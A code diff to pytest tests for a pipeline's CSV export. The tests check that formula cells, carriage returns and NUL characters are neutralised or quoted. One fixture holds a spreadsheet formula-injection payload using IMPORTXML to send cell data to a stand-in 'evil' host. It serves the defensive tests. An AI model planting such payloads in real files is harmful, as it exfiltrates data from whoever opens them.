@@ -12,14 +12,10 @@ import csv
 from pathlib import Path
 
 import pytest
+from record_csv import write_records
 
-from redss_pipeline.export.analysis_files import RecordLines, write_analysis_lines, write_icr_csv
+from redss_pipeline.export.analysis_files import write_icr_csv
 from redss_pipeline.export.csv_cells import neutralise, write_csv
-
-
-def _write_records(path, records, columns):
-    """As stage 3 writes its CSVs: each record rendered as a line, then the lines written under the header."""
-    write_analysis_lines(path, map(RecordLines(columns), records), columns)
 
 
 @pytest.mark.parametrize(
@@ -49,7 +45,7 @@ def test_formula_cells_are_neutralised_in_the_analysis_file(tmp_path: Path):
         {"uid": "avf-phone-uuid-1", "rqa_s01e01_raw": '=IMPORTXML("http://evil/?"&A2, "//a")', "age": "25"},
         {"uid": "avf-phone-uuid-2", "rqa_s01e01_raw": "@SUM(A1:A9)", "age": "NR"},
     ]
-    _write_records(path, records, ["uid", "rqa_s01e01_raw", "age"])
+    write_records(path, records, ["uid", "rqa_s01e01_raw", "age"])
     assert path.read_bytes() == (
         b"uid,rqa_s01e01_raw,age\n"
         b'avf-phone-uuid-1,"\'=IMPORTXML(""http://evil/?""&A2, ""//a"")",25\n'
@@ -68,7 +64,7 @@ def test_formula_cells_are_neutralised_in_the_icr_file(tmp_path: Path, config):
 def test_a_bare_carriage_return_is_quoted_so_the_row_stays_one_row(tmp_path: Path):
     """2019 wrote ``a\\rb`` unquoted with the ``\\n`` terminator; any reader then splits the row there."""
     path = tmp_path / "csap_prod.csv"
-    _write_records(path, [{"uid": "u1", "raw": "first\rsecond"}, {"uid": "u2", "raw": "one\ntwo"}],
+    write_records(path, [{"uid": "u1", "raw": "first\rsecond"}, {"uid": "u2", "raw": "one\ntwo"}],
                        ["uid", "raw"])
     assert path.read_bytes() == b'uid,raw\nu1,"first\rsecond"\nu2,"one\ntwo"\n'
     with open(path, newline="", encoding="utf-8") as handle:
@@ -78,13 +74,13 @@ def test_a_bare_carriage_return_is_quoted_so_the_row_stays_one_row(tmp_path: Pat
 
 def test_a_cell_starting_with_a_carriage_return_is_neutralised_and_quoted(tmp_path: Path):
     path = tmp_path / "x.csv"
-    _write_records(path, [{"raw": "\r=1+1", "n": "2"}], ["raw", "n"])
+    write_records(path, [{"raw": "\r=1+1", "n": "2"}], ["raw", "n"])
     assert path.read_bytes() == b"raw,n\n\"'\r=1+1\",2\n"
 
 
 def test_nul_characters_never_reach_a_csv(tmp_path: Path):
     path = tmp_path / "x.csv"
-    _write_records(path, [{"raw": "a\x00b", "n": "\x00=1"}], ["raw", "n"])
+    write_records(path, [{"raw": "a\x00b", "n": "\x00=1"}], ["raw", "n"])
     assert b"\x00" not in path.read_bytes()
     assert path.read_bytes() == b"raw,n\nab,'=1\n"
 
